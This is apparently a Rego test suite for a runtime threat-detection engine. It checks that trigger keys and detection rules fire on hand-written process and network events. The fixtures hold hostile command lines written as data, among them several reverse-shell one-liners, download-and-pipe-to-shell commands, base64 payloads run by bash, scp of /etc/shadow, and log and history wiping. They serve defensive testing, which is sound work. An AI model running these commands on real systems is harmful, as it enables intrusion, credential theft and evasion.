# Tests of the trigger gate (lib/triggers.rego): each key of the vocabulary
# on small hand-written events, how keys and alternatives combine, and that
# a typical positive event of each rule triggers it (a rule's triggers must
# cover every event it hits).
package palisade.lib.triggers_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.lib.triggers

# A host exec, as small as the gate needs.
exec(binary, args) := {"kind": "process_exec", "process": {
	"binary": binary, "filename": binary, "args": args,
	"cwd": "/", "uid": 0, "euid": 0,
}}

in_container(event) := object.union(event, {"container": {"id": "3f4e9c0d1b2a"}})

# ---------------------------------------------------------------- keys

test_file_paths_match_a_file_events_path_or_new_name if {
	meta := {"triggers": [{"file_paths": ["/etc/cron"]}]}
	triggers.triggered(meta) with input as fx.host_write("/usr/bin/tee", "/etc/cron.d/x")
	triggers.triggered(meta) with input as fx.host_file("file_rename", "/usr/bin/mv", "/tmp/x", {"new_path": "/etc/crontab"})
	not triggers.triggered(meta) with input as fx.host_write("/usr/bin/tee", "/etc/passwd")
	not triggers.triggered(meta) with input as exec("/etc/cron.d/x", ["x"])
}

test_names_match_binary_filename_and_any_argument if {
	meta := {"triggers": [{"names": ["nc"]}]}
	triggers.triggered(meta) with input as exec("/usr/bin/nc", ["nc", "10.0.0.5", "4444"])
	# busybox applet: argv[0] only
	triggers.triggered(meta) with input as exec("/bin/busybox", ["nc", "-l"])
	# a renamed copy run through a symlink: the filename only
	triggers.triggered(meta) with input as fx.with_process(exec("/opt/x", ["x"]), {"filename": "/usr/bin/nc"})
	# a later argument, by its last path component
	triggers.triggered(meta) with input as exec("/usr/bin/env", ["env", "/usr/bin/nc", "-l"])
}

test_names_do_not_match_other_names_or_parts if {
	meta := {"triggers": [{"names": ["nc"]}]}
	not triggers.triggered(meta) with input as exec("/usr/bin/ncat", ["ncat", "10.0.0.5"])
	not triggers.triggered(meta) with input as exec("/usr/bin/ls", ["ls", "/usr/bin/nc/x"])
}

test_names_read_non_utf8_values_through_their_text if {
	meta := {"triggers": [{"names": ["nc\ufffd"]}]}
	ev := exec({"base64": "L3Vzci9iaW4vbmP/", "text": "/usr/bin/nc\ufffd"}, [{"base64": "bmP/", "text": "nc\ufffd"}])
	triggers.triggered(meta) with input as ev
}

test_ancestors_match_an_ancestor_binary_name if {
	meta := {"triggers": [{"ancestors": ["nginx"]}]}
	ev := fx.with_ancestors(exec("/bin/sh", ["sh"]), ["/bin/sh", "/usr/sbin/nginx"])
	triggers.triggered(meta) with input as ev
}

test_ancestors_do_not_match_the_process_itself if {
	meta := {"triggers": [{"ancestors": ["nginx"]}]}
	ev := fx.with_ancestors(exec("/usr/sbin/nginx", ["nginx"]), ["/usr/lib/systemd/systemd"])
	not triggers.triggered(meta) with input as ev
}

test_paths_are_prefixes_of_the_binary_filename_or_cwd_path if {
	meta := {"triggers": [{"paths": ["/tmp/"]}]}
	triggers.triggered(meta) with input as exec("/tmp/x", ["x"])
	relative := fx.with_process(exec("/usr/bin/x", ["./x"]), {"filename": "./x", "cwd": "/tmp"})
	triggers.triggered(meta) with input as object.union(relative, {"process": {"binary": "/opt/x"}})
	# an argument under /tmp is not an executed path
	not triggers.triggered(meta) with input as exec("/usr/bin/cc", ["cc", "-o", "/tmp/a.out", "/tmp/a.c"])
	# a prefix, not anywhere in the path
	not triggers.triggered(meta) with input as exec("/opt/tmp/x", ["x"])
}

test_lower_substrings_ignore_the_case_of_the_event if {
	meta := {"triggers": [{"lower_substrings": ["base64"]}]}
	triggers.triggered(meta) with input as exec("/usr/bin/python3", ["python3", "-c", "import BASE64"])
	not triggers.triggered(meta) with input as exec("/usr/bin/python3", ["python3", "-c", "import json"])
	# plain substrings keep the case
	not triggers.triggered({"triggers": [{"substrings": ["base64"]}]}) with input as exec("/usr/bin/python3", ["python3", "-c", "import BASE64"])
}

test_substrings_search_the_command_line_and_paths if {
	meta := {"triggers": [{"substrings": ["/dev/tcp/"]}]}
	triggers.triggered(meta) with input as exec("/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.1/80"])
	tmp := {"triggers": [{"substrings": ["/tmp/"]}]}
	triggers.triggered(tmp) with input as exec("/tmp/x", ["x"])
	# a relative filename, with the working directory
	rel := fx.with_process(exec("/bin/sh", ["/bin/sh", "./run"]), {"filename": "./run", "cwd": "/tmp/build"})
	triggers.triggered(tmp) with input as rel
	# the arguments joined by spaces
	spaced := {"triggers": [{"substrings": ["-e /bin"]}]}
	triggers.triggered(spaced) with input as exec("/usr/bin/nc", ["nc", "-e", "/bin/sh"])
}

test_substrings_search_the_raw_destination_address if {
	meta := {"triggers": [{"substrings": ["169.254.169.254"]}]}
	triggers.triggered(meta) with input as {"kind": "network_connect", "network": {"daddr": "::ffff:169.254.169.254"}}
	not triggers.triggered(meta) with input as {"kind": "network_connect", "network": {"daddr": "203.0.113.7"}}
}

test_substrings_are_case_sensitive if {
	meta := {"triggers": [{"substrings": ["/dev/tcp/"]}]}
	not triggers.triggered(meta) with input as exec("/bin/bash", ["bash", "-c", "cat /DEV/TCP/x"])
}

test_container_matches_a_container_id if {
	meta := {"triggers": [{"container": true}]}
	triggers.triggered(meta) with input as in_container(exec("/bin/true", ["true"]))
}

test_container_needs_a_nonempty_id if {
	meta := {"triggers": [{"container": true}]}
	not triggers.triggered(meta) with input as exec("/bin/true", ["true"])
	not triggers.triggered(meta) with input as object.union(exec("/bin/true", ["true"]), {"container": {"id": ""}})
}

test_drift_matches_a_drift_object if {
	meta := {"triggers": [{"drift": true}]}
	ev := fx.with_process(exec("/app/x", ["x"]), {"exe": {"drift": {"reason": "upper_layer"}}})
	triggers.triggered(meta) with input as ev
}

test_drift_needs_the_drift_object if {
	meta := {"triggers": [{"drift": true}]}
	not triggers.triggered(meta) with input as fx.with_process(exec("/app/x", ["x"]), {"exe": {"inode": 7}})
	not triggers.triggered(meta) with input as fx.with_process(exec("/app/x", ["x"]), {"exe": {"drift": "upper_layer"}})
}

test_euid_raised_matches_root_euid_for_another_uid if {
	meta := {"triggers": [{"euid_raised": true}]}
	triggers.triggered(meta) with input as fx.with_process(exec("/bin/bash", ["bash", "-p"]), {"uid": 1000, "euid": 0})
}

test_euid_raised_does_not_match_root_or_a_user if {
	meta := {"triggers": [{"euid_raised": true}]}
	not triggers.triggered(meta) with input as exec("/bin/bash", ["bash"])
	not triggers.triggered(meta) with input as fx.with_process(exec("/bin/bash", ["bash"]), {"uid": 1000, "euid": 1000})
}

# ---------------------------------------------------------------- combining

test_keys_of_one_alternative_must_all_match if {
	meta := {"triggers": [{"container": true, "names": ["nc"]}]}
	triggers.triggered(meta) with input as in_container(exec("/usr/bin/nc", ["nc"]))
	not triggers.triggered(meta) with input as exec("/usr/bin/nc", ["nc"])
	not triggers.triggered(meta) with input as in_container(exec("/usr/bin/curl", ["curl"]))
}

test_any_alternative_will_do if {
	meta := {"triggers": [{"container": true}, {"names": ["nc"]}]}
	triggers.triggered(meta) with input as exec("/usr/bin/nc", ["nc"])
	triggers.triggered(meta) with input as in_container(exec("/usr/bin/curl", ["curl"]))
	not triggers.triggered(meta) with input as exec("/usr/bin/curl", ["curl"])
}

test_a_rule_without_triggers_is_always_considered if {
	triggers.triggered({"id": "X", "kinds": ["process_exec"]}) with input as exec("/usr/bin/ls", ["ls"])
	triggers.triggered({"id": "X", "triggers": null}) with input as {}
}

# ---------------------------------------------------------------- rules

# The rule module `name` hits `event` and its triggers match it.
fires(name, event) if {
	meta := data.palisade.rules[name].meta
	triggers.triggered(meta) with input as event
	hits := data.palisade.rules[name].hits with input as event
	count(hits) > 0
}

# Every rule module has triggers (so Palisade can skip it).
test_every_rule_has_triggers if {
	rules := {name | some name; data.palisade.rules[name].meta}
	count(rules) > 0
	without := {name |
		some name in rules
		meta := data.palisade.rules[name].meta
		not nonempty_array(object.get(meta, "triggers", null))
	}
	without == set()
}

nonempty_array(a) if {
	is_array(a)
	count(a) > 0
}

# Tools matched by name in a container: busybox applets and renamed
# copies too.
# Each `fires` evaluates every rule package (README.md, "regorus
# workarounds"): at most three per test keep each test well inside the
# test time limit on a slow machine.
test_names_in_a_container_trigger_their_rules if {
	fires("netcat_in_container", fx.container_exec("/bin/busybox", ["nc", "-lp", "4444"]))
	fires("container_admin_tool", fx.container_exec("/usr/local/bin/kubectl", ["kubectl", "get", "secrets", "-A"]))
	fires("network_scanner_in_container", fx.container_exec("/usr/bin/nmap", ["nmap", "-sS", "10.96.0.0/12"]))
}

test_kernel_modules_and_packages_in_a_container_trigger_their_rules if {
	fires("kernel_module_in_container", fx.container_exec("/usr/bin/kmod", ["insmod", "/tmp/r.ko"]))
	fires("package_manager_in_container", fx.container_exec("/usr/bin/python3.12", ["python3", "-m", "pip", "install", "x"]))
}

test_container_escape_triggers if {
	fires("container_escape", fx.container_exec("/usr/bin/nsenter", ["nsenter", "-t", "1", "-m", "--", "bash"]))
	fires("container_escape", fx.container_exec("/usr/sbin/chroot", ["chroot", "/proc/1/root", "/bin/bash"]))
	fires("container_escape", fx.container_exec("/bin/mount", ["mount", "-t", "cgroup", "cgroup", "/mnt"]))
}

test_tools_anywhere_trigger_their_rules if {
	fires("tunnel_tool", fx.host_exec("/tmp/chisel", ["/tmp/chisel", "client", "203.0.113.7:8000", "R:socks"]))
	fires("tunnel_tool", fx.host_exec("/usr/local/bin/cloudflared", ["cloudflared", "tunnel"]))
	fires("crypto_miner", fx.host_exec("/opt/xmrig", ["xmrig", "-c", "config.json"]))
}

test_miners_by_their_arguments_trigger if {
	fires("crypto_miner", fx.host_exec("/tmp/kswapd0", ["kswapd0", "-o", "stratum+tcp://203.0.113.7:3333"]))
	fires("crypto_miner", fx.host_exec("/tmp/s", ["s", "--url=gulf.moneroocean.stream:10128"]))
}

test_reverse_shells_trigger if {
	fires("reverse_shell", fx.host_exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]))
	fires("reverse_shell", fx.host_exec("/bin/sh", ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"]))
	fires("reverse_shell", fx.host_exec("/usr/bin/ncat", ["ncat", "203.0.113.7", "4444", "-e", "/bin/sh"]))
}

test_reverse_shell_one_liners_trigger if {
	fires("reverse_shell", fx.host_exec("/usr/bin/socat", ["socat", "EXEC:bash -li,pty,stderr", "TCP:203.0.113.7:4444"]))
	fires("reverse_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"]))
	fires("reverse_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]))
}

test_shell_spawns_and_busybox_applets_trigger if {
	fires("reverse_shell", fx.host_exec("/usr/bin/awk", ["awk", "BEGIN{system(\"/bin/sh\")}"]))
	fires("reverse_shell", fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "1"]))
	fires("netcat_in_container", fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "1"]))
}

# Shell -c scripts, plain and through busybox.
test_shell_scripts_trigger_their_rules if {
	fires("download_piped_to_shell", fx.container_exec("/bin/busybox", ["sh", "-c", "wget -qO- http://203.0.113.7/i | sh"]))
	fires("download_piped_to_shell", fx.host_exec("/bin/sh", ["sh", "-c", "curl -o /tmp/x http://203.0.113.7/x && chmod +x /tmp/x"]))
	fires("decoded_payload_to_shell", fx.host_exec("/bin/sh", ["sh", "-c", "echo aWQK | base64 -d | bash"]))
}

test_decoded_payloads_and_memory_reads_trigger if {
	fires("decoded_payload_to_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"]))
	fires("process_memory_read", fx.host_exec("/bin/sh", ["sh", "-c", "dd if=/proc/$PID/mem of=/tmp/m"]))
	fires("process_memory_read", fx.host_exec("/usr/bin/gdb", ["gdb", "-p", "1"]))
}

test_history_rules_trigger if {
	fires("history_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", "history -c"]))
	fires("history_tampering", fx.host_exec("/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"]))
	fires("history_disabled", fx.host_exec("/usr/bin/bash", ["bash", "-c", "unset HISTFILE"]))
}

test_history_disabled_in_argv_and_log_tampering_trigger if {
	fires("history_disabled", fx.host_exec("/usr/bin/env", ["env", "HISTSIZE=0", "bash"]))
	fires("log_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", ": > /var/log/syslog"]))
	fires("log_tampering", fx.host_exec("/usr/bin/shred", ["shred", "-u", "/var/log/auth.log"]))
}

test_scripts_from_writable_dirs_trigger if {
	fires("shell_script_from_writable_dir", fx.container_exec("/bin/busybox", ["busybox", "sh", "/tmp/x.sh"]))
	fires("python_script_from_writable_dir", fx.host_exec("/usr/bin/python3.12", ["python3", "/dev/shm/x.py"]))
}

test_shell_under_a_service_triggers if {
	ev := fx.with_ancestors(fx.container_exec("/bin/dash", ["sh", "-c", "id"]), ["/usr/sbin/php-fpm8.2"])
	fires("shell_from_service", ev)
}

test_paths_trigger_their_rules if {
	rel := fx.with_process(fx.host_exec("/bin/sh", ["/bin/sh", "./run"]), {"filename": "./run", "cwd": "/dev/shm/x"})
	fires("exec_from_writable_dir", rel)
	fires("fileless_exec", fx.container_exec("/memfd:x (deleted)", ["/proc/self/fd/3"]))
}

test_privileges_and_drift_trigger_their_rules if {
	fires("setuid_shell", fx.with_process(fx.host_exec("/usr/bin/bash", ["bash", "-p"]), {"uid": 1000, "euid": 0}))
	drift := {"exe": {"drift": {"reason": "written_after_boot", "file": "executable"}}}
	fires("container_drift", fx.with_process(fx.container_exec("/app/x", ["/app/x"]), drift))
	fires("node_drift", object.union(fx.with_process(fx.host_exec("/usr/sbin/sshd", ["sshd"]), drift), {"host": true}))
}

test_ai_agent_rules_trigger if {
	pip := fx.with_ancestors(fx.host_exec("/usr/bin/pip3", ["pip3", "install", "reqeusts"]), ["/usr/bin/bash", "/usr/local/bin/claude"])
	fires("ai_agent_package_manager", pip)
	curl := fx.with_ancestors(fx.host_connect("::ffff:169.254.169.254", 80), ["/usr/bin/bash", "/usr/local/bin/claude"])
	fires("ai_agent_metadata", curl)
}

test_environment_rules_trigger if {
	preload := fx.with_process(fx.host_exec("/usr/bin/id", ["id"]), {"env": {"LD_PRELOAD": "/tmp/x.so"}})
	fires("loader_hijack", preload)
	nohist := fx.with_process(fx.host_exec("/usr/bin/bash", ["bash"]), {"env": {"HISTFILE": "/dev/null"}})
	fires("history_disabled", nohist)
	not triggers.triggered({"triggers": [{"env": ["LD_PRELOAD"]}]}) with input as nohist
	not triggers.triggered({"triggers": [{"env": ["LD_PRELOAD"]}]}) with input as exec("/usr/bin/id", ["id"])
}

test_scheduled_tasks_trigger if {
	fires("cron_job_created", fx.host_exec("/usr/bin/crontab", ["crontab", "/tmp/c"]))
	fires("at_job_created", fx.host_exec("/usr/bin/at", ["at", "now"]))
	fires("systemd_timer_created", fx.host_exec("/usr/bin/systemd-run", ["systemd-run", "--on-active=5", "id"]))
}

test_cron_written_by_a_shell_triggers if {
	fires("cron_job_created", fx.host_exec("/bin/sh", ["sh", "-c", "echo x >> /etc/crontab"]))
}

test_account_rules_trigger if {
	fires("account_created", fx.container_exec("/bin/busybox", ["busybox", "adduser", "-D", "x"]))
	fires("account_modified", fx.host_exec("/usr/sbin/usermod", ["usermod", "-aG", "sudo", "x"]))
}

test_setid_rules_trigger if {
	fires("setuid_bit_set", fx.host_exec("/usr/bin/chmod", ["chmod", "4755", "/tmp/x"]))
	fires("setuid_program_unexpected", fx.with_process(fx.host_exec("/tmp/x", ["x"]), {"uid": 1000, "euid": 0}))
}

test_transfer_rules_trigger if {
	fires("file_transfer_out", fx.host_exec("/usr/bin/scp", ["scp", "/etc/shadow", "h:/tmp"]))
	fires("http_file_server", fx.host_exec("/usr/bin/python3", ["python3", "-m", "http.server"]))
	fires("http_file_server", fx.container_exec("/bin/busybox", ["busybox", "httpd", "-f"]))
}

test_network_rules_trigger if {
	fires("metadata_from_workload", fx.container_connect("::ffff:169.254.169.254", 80))
	fires("metadata_from_workload", fx.container_connect("fd00:ec2::254", 80))
	fires("outbound_port_not_allowed", fx.container_connect("203.0.113.7", 4444))
}
